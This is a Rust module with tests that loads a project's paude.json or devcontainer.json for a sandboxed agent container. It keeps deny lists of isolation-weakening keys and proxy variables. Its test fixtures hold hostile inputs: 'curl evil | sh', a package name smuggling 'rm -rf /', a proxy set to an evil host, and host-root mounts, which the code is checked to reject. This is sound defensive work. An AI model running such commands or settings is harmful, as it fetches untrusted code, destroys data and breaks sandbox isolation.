//! A project's own additions to its agent image, read from `paude.json` or
//! `.devcontainer/devcontainer.json` (or `.devcontainer.json`) in the project directory.
//!
//! Invariant: a file inside the workspace never chooses the proxy, mounts, capabilities, the
//! user or launch flags. Keys that would weaken isolation (`mounts`, `runArgs`, `privileged`,
//! `capAdd`, `forwardPorts`, `remoteUser`, `initializeCommand`, ...) are ignored with a warning,
//! and so are environment variables that would redirect or disable the proxy.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use anyhow::{bail, Context, Result};
use serde_json::{Map, Value};

use crate::images::{ContextFile, Customisation, ImagePlan};

/// Keys that would weaken the sandbox; always ignored, with a warning.
const WEAKENING_KEYS: &[&str] = &[
    "mounts",
    "runArgs",
    "privileged",
    "capAdd",
    "securityOpt",
    "forwardPorts",
    "appPort",
    "remoteUser",
    "containerUser",
    "initializeCommand",
    "workspaceMount",
    "init",
    "overrideCommand",
];

/// Environment variables a project file may not set: they steer or disable the proxy.
const RESERVED_ENV: &[&str] = &[
    "HTTP_PROXY",
    "HTTPS_PROXY",
    "NO_PROXY",
    "ALL_PROXY",
    "http_proxy",
    "https_proxy",
    "no_proxy",
    "all_proxy",
];

/// The most bytes a devcontainer build context may hold.
const MAX_CONTEXT_BYTES: u64 = 256 << 20;

/// The customisation found in `dir`, with warnings for everything ignored. No file: nothing.
pub fn load(dir: &Path) -> Result<(Customisation, Vec<String>)> {
    let paude = dir.join("paude.json");
    if paude.is_file() {
        let text = std::fs::read_to_string(&paude)
            .with_context(|| format!("cannot read '{}'", paude.display()))?;
        return parse_paude_json(&text, "paude.json");
    }
    for rel in [".devcontainer/devcontainer.json", ".devcontainer.json"] {
        let path = dir.join(rel);
        if path.is_file() {
            let text = std::fs::read_to_string(&path)
                .with_context(|| format!("cannot read '{}'", path.display()))?;
            let base_dir = path.parent().map(Path::to_path_buf).unwrap_or_default();
            return parse_devcontainer(&text, rel, &base_dir);
        }
    }
    Ok((Customisation::default(), Vec::new()))
}

/// Parses JSON with comments and trailing commas (devcontainer.json allows both) into an object.
fn object(text: &str, source: &str) -> Result<Map<String, Value>> {
    let value: Value = json5::from_str(text).map_err(|e| {
        anyhow::anyhow!("{source} is not valid JSON: {e}; fix the file or remove it")
    })?;
    match value {
        Value::Object(map) => Ok(map),
        _ => bail!("{source} must hold a JSON object, such as {{\"packages\": [\"jq\"]}}"),
    }
}

/// A string value, or an error naming the key.
fn string(v: &Value, source: &str, key: &str) -> Result<String> {
    v.as_str()
        .map(str::to_owned)
        .with_context(|| format!("{source}: '{key}' must be a string"))
}

/// A string or a list of strings (each a shell command).
fn commands(v: &Value, source: &str, key: &str) -> Result<Vec<String>> {
    match v {
        Value::String(s) => Ok(vec![s.clone()]),
        Value::Array(items) => items.iter().map(|i| string(i, source, key)).collect(),
        _ => bail!("{source}: '{key}' must be a string or a list of strings"),
    }
}

/// Checks a Debian package name (optionally `=version`).
fn package(v: &Value, source: &str) -> Result<String> {
    let name = string(v, source, "packages")?;
    let (pkg, version) = name.split_once('=').unwrap_or((&name, ""));
    let pkg_ok = pkg.len() >= 2
        && pkg.starts_with(|c: char| c.is_ascii_lowercase() || c.is_ascii_digit())
        && pkg
            .chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || "+-.".contains(c));
    let version_ok = version
        .chars()
        .all(|c| c.is_ascii_alphanumeric() || "+-.:~".contains(c));
    if !pkg_ok || !version_ok {
        bail!("{source}: '{name}' is not a Debian package name (such as jq or python3-venv)");
    }
    Ok(name)
}

/// Environment variables from a project file, minus the reserved ones.
fn env(v: &Value, source: &str, warnings: &mut Vec<String>) -> Result<BTreeMap<String, String>> {
    let Value::Object(map) = v else {
        bail!("{source}: 'containerEnv' must be an object of strings");
    };
    let mut out = BTreeMap::new();
    for (k, v) in map {
        let value = string(v, source, k)?;
        let valid = !k.is_empty()
            && !k.starts_with(|c: char| c.is_ascii_digit())
            && k.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
        if !valid {
            bail!("{source}: '{k}' is not a valid environment variable name");
        }
        if RESERVED_ENV.contains(&k.as_str()) || k.starts_with("PAUDE_") {
            warnings.push(format!(
                "{source}: ignoring the environment variable {k}: the session's proxy settings are not configurable from the project"
            ));
            continue;
        }
        out.insert(k.clone(), value);
    }
    Ok(out)
}

/// Warns about a key that weakens isolation or that paude does not support.
fn ignored(key: &str, source: &str) -> String {
    if WEAKENING_KEYS.contains(&key) {
        format!("{source}: ignoring '{key}': it would weaken the sandbox, and a project file may not choose mounts, privileges or launch flags")
    } else {
        format!("{source}: ignoring '{key}': paude-launch does not support it")
    }
}

/// `paude.json`: `base`, `packages`, `setup`, `env`; unknown keys are errors (typos matter),
/// isolation-weakening keys are warnings.
pub fn parse_paude_json(text: &str, source: &str) -> Result<(Customisation, Vec<String>)> {
    let map = object(text, source)?;
    let mut c = Customisation {
        source: Some(source.to_owned()),
        ..Customisation::default()
    };
    let mut warnings = Vec::new();
    for (key, v) in &map {
        match key.as_str() {
            "base" => c.base = Some(string(v, source, key)?),
            "packages" => {
                let Value::Array(items) = v else {
                    bail!("{source}: 'packages' must be a list of Debian package names");
                };
                c.packages = items
                    .iter()
                    .map(|i| package(i, source))
                    .collect::<Result<_>>()?;
            }
            "setup" => c.setup = commands(v, source, key)?,
            "postCreateCommand" => c.post_create = Some(commands(v, source, key)?.join(" && ")),
            "env" | "containerEnv" => c.env = env(v, source, &mut warnings)?,
            k if WEAKENING_KEYS.contains(&k) => warnings.push(ignored(k, source)),
            k => bail!(
                "{source}: unknown key '{k}': use base, packages, setup, postCreateCommand or env"
            ),
        }
    }
    Ok((c, warnings))
}

/// `devcontainer.json`: `image`, `build.dockerfile`/`build.context`, `postCreateCommand`,
/// `containerEnv`; everything else is ignored with a warning.
pub fn parse_devcontainer(
    text: &str,
    source: &str,
    base_dir: &Path,
) -> Result<(Customisation, Vec<String>)> {
    let map = object(text, source)?;
    let mut c = Customisation {
        source: Some(source.to_owned()),
        ..Customisation::default()
    };
    let mut warnings = Vec::new();
    for (key, v) in &map {
        match key.as_str() {
            "image" => c.base = Some(string(v, source, key)?),
            "build" => {
                let Value::Object(build) = v else {
                    bail!("{source}: 'build' must be an object with a 'dockerfile'");
                };
                let dockerfile = build
                    .get("dockerfile")
                    .map(|d| string(d, source, "build.dockerfile"))
                    .transpose()?
                    .with_context(|| format!("{source}: 'build' needs a 'dockerfile'"))?;
                let context = build
                    .get("context")
                    .map(|d| string(d, source, "build.context"))
                    .transpose()?
                    .unwrap_or_else(|| ".".to_owned());
                for k in build.keys() {
                    if k != "dockerfile" && k != "context" {
                        warnings.push(ignored(&format!("build.{k}"), source));
                    }
                }
                c.base_build = Some(dockerfile_build(
                    &base_dir.join(dockerfile),
                    &base_dir.join(context),
                )?);
            }
            "postCreateCommand" => match v {
                Value::Array(argv) => {
                    let words: Vec<String> = argv
                        .iter()
                        .map(|w| string(w, source, key))
                        .collect::<Result<_>>()?;
                    c.post_create = Some(
                        shlex::try_join(words.iter().map(String::as_str)).with_context(|| {
                            format!("{source}: postCreateCommand cannot be quoted")
                        })?,
                    );
                }
                Value::String(s) => c.post_create = Some(s.clone()),
                _ => warnings.push(format!(
                    "{source}: ignoring 'postCreateCommand': only a string or a list is supported"
                )),
            },
            "containerEnv" => c.env = env(v, source, &mut warnings)?,
            "name" | "customizations" | "$schema" => {}
            k => warnings.push(ignored(k, source)),
        }
    }
    if c.base.is_some() && c.base_build.is_some() {
        bail!("{source}: give either 'image' or 'build', not both");
    }
    Ok((c, warnings))
}

/// The project's Dockerfile and its context directory as an image to build.
fn dockerfile_build(dockerfile: &Path, context: &Path) -> Result<ImagePlan> {
    let text = std::fs::read_to_string(dockerfile).with_context(|| {
        format!(
            "cannot read the devcontainer Dockerfile '{}'",
            dockerfile.display()
        )
    })?;
    let mut files = Vec::new();
    let mut total = 0u64;
    collect(context, context, &mut files, &mut total)?;
    files.retain(|f: &ContextFile| f.path != "Dockerfile");
    Ok(ImagePlan::new("localhost/paude-devcontainer", text, files))
}

/// Adds every file under `dir` to `files`, skipping `.git`.
fn collect(root: &Path, dir: &Path, files: &mut Vec<ContextFile>, total: &mut u64) -> Result<()> {
    let entries = std::fs::read_dir(dir)
        .with_context(|| format!("cannot read the build context '{}'", dir.display()))?;
    for entry in entries {
        let entry = entry?;
        let path: PathBuf = entry.path();
        let meta = std::fs::symlink_metadata(&path)?;
        if entry.file_name() == ".git" {
            continue;
        }
        if meta.is_dir() {
            collect(root, &path, files, total)?;
        } else if meta.is_file() {
            *total += meta.len();
            if *total > MAX_CONTEXT_BYTES {
                bail!(
                    "the devcontainer build context '{}' is larger than 256 MiB: point build.context at a smaller directory",
                    root.display()
                );
            }
            let rel = path
                .strip_prefix(root)
                .unwrap_or(&path)
                .to_string_lossy()
                .replace('\\', "/");
            use std::os::unix::fs::PermissionsExt;
            files.push(ContextFile::new(
                &rel,
                meta.permissions().mode() & 0o777,
                Arc::new(std::fs::read(&path)?),
            ));
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paude_json_fields() {
        let (c, w) = parse_paude_json(
            r#"{"base": "node:22", "packages": ["jq", "python3=3.11.2-1"], "setup": "pip install x",
                "env": {"FOO": "1", "HTTPS_PROXY": "http://evil:1"}, "mounts": ["/:/host"]}"#,
            "paude.json",
        )
        .unwrap();
        assert_eq!(c.base.as_deref(), Some("node:22"));
        assert_eq!(c.packages, ["jq", "python3=3.11.2-1"]);
        assert_eq!(c.setup, ["pip install x"]);
        assert_eq!(c.env, BTreeMap::from([("FOO".into(), "1".into())]));
        assert_eq!(w.len(), 2, "{w:?}");
        assert!(w
            .iter()
            .any(|m| m.contains("'mounts'") && m.contains("weaken")));
        assert!(w.iter().any(|m| m.contains("HTTPS_PROXY")));
    }

    #[test]
    fn paude_json_refuses_typos_and_bad_packages() {
        let err = parse_paude_json(r#"{"pakages": []}"#, "paude.json").unwrap_err();
        assert!(err.to_string().contains("unknown key 'pakages'"));
        let err = parse_paude_json(r#"{"packages": ["jq; rm -rf /"]}"#, "paude.json").unwrap_err();
        assert!(err.to_string().contains("not a Debian package name"));
        assert!(parse_paude_json("[1]", "paude.json").is_err());
        assert!(parse_paude_json("{", "paude.json").is_err());
    }

    #[test]
    fn devcontainer_with_comments_and_weakening_keys() {
        let text = r#"{
            // A comment, as devcontainer.json allows.
            "name": "demo",
            "image": "mcr.microsoft.com/devcontainers/base:bookworm",
            "postCreateCommand": ["npm", "install", "--no-fund"],
            "containerEnv": {"EDITOR": "vim", "NO_PROXY": "*"},
            "runArgs": ["--network=host"],
            "privileged": true,
            "capAdd": ["NET_ADMIN"],
            "forwardPorts": [3000],
            "remoteUser": "root",
            "initializeCommand": "curl evil | sh",
            "mounts": ["source=/,target=/host,type=bind"],
            "features": {},
        }"#;
        let (c, w) = parse_devcontainer(text, "devcontainer.json", Path::new(".")).unwrap();
        assert_eq!(
            c.base.as_deref(),
            Some("mcr.microsoft.com/devcontainers/base:bookworm")
        );
        assert_eq!(c.post_create.as_deref(), Some("npm install --no-fund"));
        assert_eq!(c.env, BTreeMap::from([("EDITOR".into(), "vim".into())]));
        for key in [
            "runArgs",
            "privileged",
            "capAdd",
            "forwardPorts",
            "remoteUser",
            "initializeCommand",
            "mounts",
        ] {
            assert!(
                w.iter()
                    .any(|m| m.contains(&format!("'{key}'")) && m.contains("weaken")),
                "{key}: {w:?}"
            );
        }
        assert!(w.iter().any(|m| m.contains("'features'")));
        assert!(w.iter().any(|m| m.contains("NO_PROXY")));
    }

    #[test]
    fn devcontainer_dockerfile_becomes_the_base_build() {
        let dir = tempfile::tempdir().unwrap();
        let dc = dir.path().join(".devcontainer");
        std::fs::create_dir_all(&dc).unwrap();
        std::fs::write(
            dc.join("Dockerfile"),
            "FROM debian:bookworm\nCOPY tool.sh /\n",
        )
        .unwrap();
        std::fs::write(dc.join("tool.sh"), "echo hi\n").unwrap();
        std::fs::write(
            dc.join("devcontainer.json"),
            r#"{"build": {"dockerfile": "Dockerfile"}}"#,
        )
        .unwrap();
        let (c, w) = load(dir.path()).unwrap();
        assert!(w.is_empty(), "{w:?}");
        let base = c.base_build.as_ref().unwrap();
        assert!(base
            .reference()
            .starts_with("localhost/paude-devcontainer:"));
        let paths: Vec<_> = base.files.iter().map(|f| f.path.as_str()).collect();
        assert_eq!(paths, ["Dockerfile", "devcontainer.json", "tool.sh"]);
        let agent = crate::images::agent_image(
            crate::agents::find("shell").unwrap(),
            "ignored",
            &crate::images::ImageInputs {
                proxy_binary: Arc::new(Vec::new()),
                proxy_identity: "test".into(),
                proxy_is_static: true,
                ca_bundle: None,
            },
            &c,
        );
        assert!(agent
            .dockerfile
            .contains(&format!("FROM {}\n", base.reference())));
    }

    #[test]
    fn no_file_means_no_customisation() {
        let dir = tempfile::tempdir().unwrap();
        let (c, w) = load(dir.path()).unwrap();
        assert_eq!(c, Customisation::default());
        assert!(w.is_empty());
    }
}
